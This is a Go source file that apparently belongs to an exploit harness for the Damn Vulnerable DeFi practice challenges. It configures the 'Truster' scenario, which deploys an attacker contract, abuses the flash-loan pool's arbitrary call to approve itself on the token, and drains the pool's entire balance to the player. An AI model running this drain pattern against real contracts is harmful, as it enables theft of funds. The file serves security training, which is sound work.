package scenarios

import (
	"context"
	"math/big"

	"github.com/ethereum/go-ethereum/common"

	"github.com/mjkid221/damn-vulnerable-defi/exploit"
	"github.com/mjkid221/damn-vulnerable-defi/payload"
)

// Truster deploys an attacker whose attack() borrows nothing from the pool
// but has the loan's arbitrary call approve the attacker on the token, then
// pulls the pool's balance over to the player.
//
// Addresses: pool, token. Code: truster-attacker, built with
// constructor(address pool, address token).
func Truster(ctx context.Context, p Params) (*exploit.Config, error) {
	addrs, err := p.addresses("pool", "token")
	if err != nil {
		return nil, err
	}
	code, err := p.code("truster-attacker")
	if err != nil {
		return nil, err
	}
	deploy, err := deployData(code, "address,address", addrs["pool"], addrs["token"])
	if err != nil {
		return nil, err
	}
	pooled, err := p.tokenBalance(ctx, "pool-tokens", addrs["token"], addrs["pool"])
	if err != nil {
		return nil, err
	}
	owned, err := p.tokenBalance(ctx, "player-tokens", addrs["token"], p.Player)
	if err != nil {
		return nil, err
	}
	addrs["player"] = p.Player
	attack := payload.EncodeSelector("attack()")

	return &exploit.Config{
		Name:      "truster",
		Addresses: addrs,
		Watch:     []common.Address{p.Player},
		Steps: []exploit.Step{
			&exploit.SubmitCall{Name: "truster-attacker", Data: deploy},
			&exploit.SubmitCall{Name: "attack", To: to("truster-attacker"), Data: attack[:]},
		},
		Postconditions: []exploit.Postcondition{
			exploit.TokenBalanceEquals(exploit.Ref("token"), exploit.Ref("pool"), new(big.Int)),
			exploit.TokenBalanceEquals(exploit.Ref("token"), exploit.Ref("player"), new(big.Int).Add(owned, pooled)),
		},
	}, nil
}
